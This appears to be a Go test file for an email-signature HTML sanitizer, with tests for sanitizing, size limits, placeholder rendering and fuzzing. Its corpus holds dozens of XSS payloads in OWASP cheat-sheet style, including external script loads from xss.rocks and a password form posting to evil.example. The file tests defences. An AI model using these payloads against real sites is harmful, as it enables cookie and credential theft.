package profile

import (
	"strings"
	"testing"

	xhtml "golang.org/x/net/html"

	"github.com/example/myprofile/shared/account"
)

// xssCorpus are attack vectors in the style of the OWASP XSS Filter Evasion
// Cheat Sheet. None may leave anything executable or loading in the output.
var xssCorpus = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>`,
	`<IMG SRC="javascript:alert('XSS');">`,
	`<IMG SRC=javascript:alert('XSS')>`,
	`<IMG SRC=JaVaScRiPt:alert('XSS')>`,
	"<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
	`<a onmouseover="alert(document.cookie)">xxs link</a>`,
	`<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>`,
	`<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
	`<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
	`<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
	`<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
	`<IMG SRC="jav	ascript:alert('XSS');">`,
	`<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
	`<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
	`<IMG SRC=" &#14;  javascript:alert('XSS');">`,
	`<SCRIPT/XSS SRC="https://xss.rocks/xss.js"></SCRIPT>`,
	`<BODY onload!#$%&()*~+-_.,:;?@[/|\]^` + "`" + `=alert("XSS")>`,
	`<<SCRIPT>alert("XSS");//\<</SCRIPT>`,
	`<SCRIPT SRC=https://xss.rocks/xss.js?< B >`,
	`<IMG SRC="` + "`" + `<javascript:alert>` + "`" + `('XSS')"`,
	`<iframe src=https://xss.rocks/scriptlet.html <`,
	`</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
	`<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
	`<BODY BACKGROUND="javascript:alert('XSS')">`,
	`<IMG DYNSRC="javascript:alert('XSS')">`,
	`<IMG LOWSRC="javascript:alert('XSS')">`,
	`<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
	`<svg/onload=alert('XSS')>`,
	`<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
	`<STYLE>@import'https://xss.rocks/xss.css';</STYLE>`,
	`<META HTTP-EQUIV="Link" Content="<https://xss.rocks/xss.css>; REL=stylesheet">`,
	`<STYLE>BODY{-moz-binding:url("https://xss.rocks/xssmoz.xml#xss")}</STYLE>`,
	`<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
	`<div style="background-image: url(javascript:alert('XSS'))">x</div>`,
	`<div style="width: expression(alert('XSS'));">x</div>`,
	`<p style="background:url(https://tracker.example/pixel.gif)">x</p>`,
	`<TABLE BACKGROUND="javascript:alert('XSS')">`,
	`<TD BACKGROUND="javascript:alert('XSS')">`,
	`<DIV STYLE="background-image:\0075\0072\006C\0028'\006a\0061\0076\0061\0073\0063\0072\0069\0070\0074\003a\0061\006c\0065\0072\0074\0028.1027\0058.1053\0053\0027\0029'\0029">`,
	`<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
	`<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
	`<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.rocks/scriptlet.html"></OBJECT>`,
	`<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>`,
	`<img src="data:image/png;base64,iVBORw0KGgo=">`,
	`<a href="http://insecure.example/">plain http</a>`,
	`<a href="//evil.example/">protocol-relative</a>`,
	`<a href="vbscript:msgbox('XSS')">vb</a>`,
	`<form action="https://evil.example/"><input name="p" type="password"><button>Go</button></form>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
	`<details open ontoggle=alert(1)>`,
	`<base href="javascript:alert('XSS');//">`,
	`<a href="https://ok.example/" onclick="alert(1)" style="color:red">ok</a>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<img src="https://ok.example/a.png" srcset="javascript:alert(1)">`,
	`<!--<img src="--><img src=x onerror=alert(1)//">`,
}

// safeElements are the only elements sanitized output may hold.
var safeElements = map[string]bool{"p": true, "br": true, "div": true, "span": true, "b": true, "strong": true, "i": true,
	"em": true, "u": true, "s": true, "small": true, "big": true, "sub": true, "sup": true, "hr": true, "ul": true, "ol": true,
	"li": true, "blockquote": true, "h1": true, "h2": true, "h3": true, "h4": true, "h5": true, "h6": true, "table": true,
	"thead": true, "tbody": true, "tfoot": true, "tr": true, "td": true, "th": true, "center": true, "font": true, "a": true, "img": true}

// dangerous parses sanitized output as a browser would and returns the
// first element or attribute that could run script or load anything that
// is not https, or "" when there is none.
func dangerous(out string) string {
	z := xhtml.NewTokenizer(strings.NewReader(out))
	for {
		tt := z.Next()
		switch tt {
		case xhtml.ErrorToken:
			return ""
		case xhtml.CommentToken, xhtml.DoctypeToken:
			return "comment or doctype"
		case xhtml.StartTagToken, xhtml.SelfClosingTagToken:
			tok := z.Token()
			if !safeElements[tok.Data] {
				return "<" + tok.Data + ">"
			}
			for _, a := range tok.Attr {
				name, val := strings.ToLower(a.Key), strings.ToLower(a.Val)
				switch {
				case strings.HasPrefix(name, "on"):
					return name
				case name == "href" || name == "src":
					if !strings.HasPrefix(val, "https://") {
						return name + "=" + a.Val
					}
				case name == "style":
					if strings.Contains(val, "url") || strings.Contains(val, "expression") || strings.Contains(val, "\\") || strings.Contains(val, "import") {
						return "style=" + a.Val
					}
				case name == "srcset" || name == "background" || name == "action" || name == "formaction" || name == "xlink:href":
					return name
				}
			}
		}
	}
}

func TestSanitizeSignatureRemovesEveryXSSVector(t *testing.T) {
	if len(xssCorpus) < 30 {
		t.Fatalf("corpus has %d vectors, want at least 30", len(xssCorpus))
	}
	s := NewSigner()
	for i, in := range xssCorpus {
		out, msg := s.SanitizeSignature(in)
		if msg != "" {
			t.Errorf("vector %d refused instead of sanitized: %s", i, msg)
			continue
		}
		if m := dangerous(out); m != "" {
			t.Errorf("vector %d survived as %q in %q", i, m, out)
		}
		// What the sanitizer lets through is stable: sanitizing again
		// changes nothing.
		if again, _ := s.SanitizeSignature(out); again != out {
			t.Errorf("vector %d: sanitizing is not idempotent: %q then %q", i, out, again)
		}
	}
}

func TestSanitizeSignatureKeepsSafeFormatting(t *testing.T) {
	s := NewSigner()
	in := `<p style="color: #333333; font-size: 12px">Ada <b>Lovelace</b><br>` +
		`<a href="https://example.com/ada">example.com</a> ` +
		`<img src="https://cdn.example.com/logo.png" alt="Logo" width="120"></p>` +
		`<table><tr><td>{{user.email}}</td></tr></table>`
	out, msg := s.SanitizeSignature(in)
	if msg != "" {
		t.Fatalf("refused: %s", msg)
	}
	for _, want := range []string{`style="color: #333333; font-size: 12px"`, `<b>Lovelace</b>`, `href="https://example.com/ada"`,
		`rel="nofollow noreferrer noopener"`, `src="https://cdn.example.com/logo.png"`, `alt="Logo"`, `<td>{{user.email}}</td>`} {
		if !strings.Contains(out, want) {
			t.Errorf("sanitized signature lacks %s: %s", want, out)
		}
	}
}

func TestSanitizeSignatureSizeLimit(t *testing.T) {
	s := NewSigner()
	t.Run("10 KB of text is kept", func(t *testing.T) {
		if _, msg := s.SanitizeSignature(strings.Repeat("a", MaxSignatureBytes)); msg != "" {
			t.Errorf("refused: %s", msg)
		}
	})
	t.Run("one byte more is refused", func(t *testing.T) {
		if _, msg := s.SanitizeSignature(strings.Repeat("a", MaxSignatureBytes+1)); msg == "" {
			t.Error("accepted")
		}
	})
	t.Run("the limit applies after sanitizing", func(t *testing.T) {
		in := strings.Repeat("<script>x</script>", 2000) + "ok"
		out, msg := s.SanitizeSignature(in)
		if msg != "" || out != "ok" {
			t.Errorf("got %q, %q", out, msg)
		}
	})
}

func TestRenderSignature(t *testing.T) {
	u := account.User{FirstName: `<b>Ada</b>`, LastName: `O"Lovelace`, Email: "ada@example.com", Phone: "+34600111222", PhoneInternational: "+34 600 11 12 22"}
	tests := []struct {
		name, in, wantHTML, wantText string
	}{
		{"known values are filled", `<p>{{user.full_name}} · {{ user.email }}</p>`,
			`<p>&lt;b&gt;Ada&lt;/b&gt; O&#34;Lovelace · ada@example.com</p>`, `<b>Ada</b> O"Lovelace · ada@example.com`},
		{"unknown values render empty", `<p>x{{user.password}}{{constructor}}{{}}y</p>`, `<p>xy</p>`, `xy`},
		{"phone in international format", `{{user.phone}}`, `+34 600 11 12 22`, `+34 600 11 12 22`},
		{"links show their address in text", `<p>Site: <a href="https://example.com">{{user.first_name}}</a></p><p>Bye</p>`,
			`<p>Site: <a href="https://example.com">&lt;b&gt;Ada&lt;/b&gt;</a></p><p>Bye</p>`, "Site: <b>Ada</b> (https://example.com)\nBye"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			h, txt := RenderSignature(tc.in, SignatureValues(u))
			if h != tc.wantHTML {
				t.Errorf("html = %q, want %q", h, tc.wantHTML)
			}
			if txt != tc.wantText {
				t.Errorf("text = %q, want %q", txt, tc.wantText)
			}
		})
	}
}

func FuzzSanitizeSignature(f *testing.F) {
	for _, v := range xssCorpus {
		f.Add(v)
	}
	s := NewSigner()
	f.Fuzz(func(t *testing.T, in string) {
		out, msg := s.SanitizeSignature(in)
		if msg != "" {
			return
		}
		if len(out) > MaxSignatureBytes {
			t.Fatalf("stored %d bytes", len(out))
		}
		if m := dangerous(out); m != "" {
			t.Fatalf("%q survived as %q", in, m)
		}
		// Filling the custom values must not turn stored markup into code.
		rendered, _ := RenderSignature(out, map[string]string{"user.first_name": `"><script>alert(1)</script>`})
		if m := dangerous(rendered); m != "" {
			t.Fatalf("%q rendered %q", in, m)
		}
	})
}

// A placeholder spanning a quote could, when removed, leave an attribute
// open and turn the text after it into attributes (an event handler).
func TestRenderingCannotUnbalanceMarkup(t *testing.T) {
	s := NewSigner()
	for _, in := range []string{
		`<span title="{{">}}</span><a title=" onmouseover=alert(document.domain) style=color:red " href="https://a.example/">x</a>`,
		`<a href="https://a.example/" title="{{ ' }}">y</a><span title=" onclick=alert(1) ">z</span>`,
		`<p title="{{user.first_name">}}"> onfocus=alert(1) autofocus </p>`,
	} {
		stored, msg := s.SanitizeSignature(in)
		if msg != "" {
			t.Fatalf("refused %q: %s", in, msg)
		}
		out, _ := RenderSignature(stored, map[string]string{"user.first_name": "Ada"})
		if m := dangerous(out); m != "" {
			t.Errorf("%q rendered with %q:\n%s", in, m, out)
		}
		if again := s.policy.Sanitize(out); again != out {
			t.Errorf("rendering is not a fixed point of the sanitizer:\n%s\n%s", out, again)
		}
	}
	out, _ := RenderSignature(`<p>Hi {{ user.first_name }}, {{user.unknown}}!</p>`, map[string]string{"user.first_name": "<Ada>"})
	if out != `<p>Hi &lt;Ada&gt;, !</p>` {
		t.Errorf("got %q", out)
	}
}
